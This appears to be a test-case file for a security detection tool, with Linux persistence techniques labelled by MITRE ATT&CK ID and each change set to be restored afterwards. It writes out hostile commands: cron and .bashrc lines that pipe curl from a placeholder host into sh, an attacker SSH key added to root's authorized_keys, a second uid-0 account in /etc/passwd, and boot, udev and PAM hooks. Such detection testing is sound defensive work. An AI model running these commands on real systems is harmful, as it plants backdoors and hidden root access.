# Persistence (TA0003). Every file written outside the scratch directory is removed or restored.

#@ id=pers-cron-d kind=attack tactic=persistence technique=T1053.003 signal=file title=Job file dropped into /etc/cron.d
restore_file /etc/cron.d/mamori-eval-job
echo '* * * * * root curl -s http://127.0.0.1:1/x | sh' > /etc/cron.d/mamori-eval-job

#@ id=pers-root-crontab kind=attack tactic=persistence technique=T1053.003 signal=file title=Root crontab installed with crontab(1) from a file
d=/var/spool/cron/crontabs; mkdir -p $d; restore_file $d/root
echo '*/5 * * * * /tmp/.update >/dev/null 2>&1' > job.txt
busybox crontab -c $d job.txt; busybox crontab -c $d -l

#@ id=pers-systemd-unit kind=attack tactic=persistence technique=T1543.002 signal=file title=New systemd service unit written
restore_file /etc/systemd/system/mamori-eval-updater.service
printf '[Service]\nExecStart=/tmp/.updater\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/mamori-eval-updater.service

#@ id=pers-systemd-user-unit kind=attack tactic=persistence technique=T1543.002 signal=file title=Systemd user unit in a home directory
restore_file /root/.config/systemd/user/mamori-eval.service
mkdir -p /root/.config/systemd/user; printf '[Service]\nExecStart=/bin/true\n' > /root/.config/systemd/user/mamori-eval.service

#@ id=pers-authorized-keys kind=attack tactic=persistence technique=T1098.004 signal=file title=SSH key appended to root's authorized_keys
mkdir -p /root/.ssh; restore_file /root/.ssh/authorized_keys
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMamoriEvalKeyMamoriEvalKeyMamoriEval eval@attacker' >> /root/.ssh/authorized_keys

#@ id=pers-bashrc kind=attack tactic=persistence technique=T1546.004 signal=file title=Command appended to root's .bashrc
restore_file /root/.bashrc
echo '(curl -s http://127.0.0.1:1/b | sh) >/dev/null 2>&1 &' >> /root/.bashrc

#@ id=pers-profile-d kind=attack tactic=persistence technique=T1546.004 signal=file title=Script dropped into /etc/profile.d
restore_file /etc/profile.d/mamori-eval.sh
echo 'export PROMPT_COMMAND="/tmp/.x"' > /etc/profile.d/mamori-eval.sh

#@ id=pers-udev-rule kind=attack tactic=persistence technique=T1546 signal=file title=udev rule with RUN+= written
[ -d /etc/udev/rules.d ] || { mkdir -p /etc/udev/rules.d; at_exit "rmdir /etc/udev/rules.d /etc/udev 2>/dev/null"; }
restore_file /etc/udev/rules.d/99-mamori-eval.rules
echo 'ACTION=="add", SUBSYSTEM=="net", RUN+="/tmp/.x"' > /etc/udev/rules.d/99-mamori-eval.rules

#@ id=pers-ld-preload kind=attack tactic=persistence technique=T1574.006 signal=file title=/etc/ld.so.preload created (empty, harmless)
restore_file /etc/ld.so.preload
: >> /etc/ld.so.preload

#@ id=pers-rc-local kind=attack tactic=persistence technique=T1037.004 signal=file title=rc.local boot script written
restore_file /etc/rc.local
printf '#!/bin/sh\n/tmp/.x &\nexit 0\n' > /etc/rc.local

#@ id=pers-new-user kind=attack tactic=persistence technique=T1136.001 signal=exec title=Local account created with useradd
u=mamorieval$$; at_exit "userdel -r $u 2>/dev/null"
useradd -M -s /bin/bash $u

#@ id=pers-uid0-user kind=attack tactic=persistence technique=T1136.001 signal=file title=Second uid-0 account appended to /etc/passwd
restore_file /etc/passwd
echo "toor$$:x:0:0::/root:/bin/bash" >> /etc/passwd

#@ id=pers-pam kind=attack tactic=persistence technique=T1556.003 signal=file title=PAM configuration modified
restore_file /etc/pam.d/common-auth
[ -f /etc/pam.d/common-auth ] && echo '# mamori eval' >> /etc/pam.d/common-auth
